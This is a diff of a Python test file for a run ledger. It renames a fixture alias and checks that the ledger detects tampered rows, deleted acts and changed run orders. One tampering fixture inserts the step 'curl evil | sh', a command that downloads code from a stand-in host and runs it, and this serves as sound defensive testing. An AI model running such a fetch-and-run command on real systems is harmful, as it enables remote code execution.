@@ -16,7 +16,7 @@ from runner.record.connection import FOR_WRITING, _engine
 from runner.record.migrate import upgrade
 from runner.record.operators import operator_here
 
-Begin = Callable[..., bool]
+CreateRun = Callable[..., bool]
 
 
 def change(file: Path, statement: str) -> None:
@@ -26,9 +26,9 @@ def change(file: Path, statement: str) -> None:
     connection.close()
 
 
-def test_acts_name_the_operators_of_a_run(url: str, begin: Begin):
+def test_acts_name_the_operators_of_a_run(url: str, create_run: CreateRun):
     with Ledger.open(url, operator=operator_here("Ada")) as ledger:
-        begin(ledger)
+        create_run(ledger)
     with Ledger.open(url, operator=operator_here("Bob")) as ledger:
         ledger.runs.reopen("r1")
         acts = ledger.runs.show("r1").acts
@@ -67,10 +67,12 @@ def test_operator_comes_from_flag_variable_or_login(named: str, environ: dict[st
         ("DELETE FROM runs WHERE run = 'r2'", "act 2 (run r2): its run is not in the ledger"),
     ],
 )
-def test_verify_names_first_changed_row(url: str, file: Path, begin: Begin, statement: str, problem: str):
+def test_verify_names_first_changed_row(
+    url: str, file: Path, create_run: CreateRun, statement: str, problem: str
+):
     with Ledger.open(url) as ledger:
         for run in ("r1", "r2", "r3"):
-            begin(ledger, run)
+            create_run(ledger, run)
     change(file, statement)
     with Ledger.open(url) as ledger:
         assert problem in ledger.acts.verify().problem
@@ -88,9 +90,9 @@ def test_truncated_chain_lacks_noted_head(url: str, file: Path):
         assert "no act has the hash" in ledger.acts.verify(head).problem
 
 
-def test_run_with_changed_order_is_refused(url: str, file: Path, begin: Begin):
+def test_run_with_changed_order_is_refused(url: str, file: Path, create_run: CreateRun):
     with Ledger.open(url) as ledger:
-        begin(ledger)
+        create_run(ledger)
     change(file, 'UPDATE runs SET order_text = \'{"steps": ["curl evil | sh"]}\'')
     with Ledger.open(url) as ledger:
         with pytest.raises(LedgerError, match="order of run r1 was changed"):
@@ -100,9 +102,9 @@ def test_run_with_changed_order_is_refused(url: str, file: Path, begin: Begin):
         assert [act.act for act in ledger.acts.list()] == ["run"]
 
 
-def test_run_without_act_is_not_resumed(url: str, file: Path, begin: Begin):
+def test_run_without_act_is_not_resumed(url: str, file: Path, create_run: CreateRun):
     with Ledger.open(url) as ledger:
-        begin(ledger)
+        create_run(ledger)
     change(file, "DELETE FROM acts")
     with Ledger.open(url) as ledger, pytest.raises(LedgerError, match="not recorded by any act"):
         ledger.runs.reopen("r1")
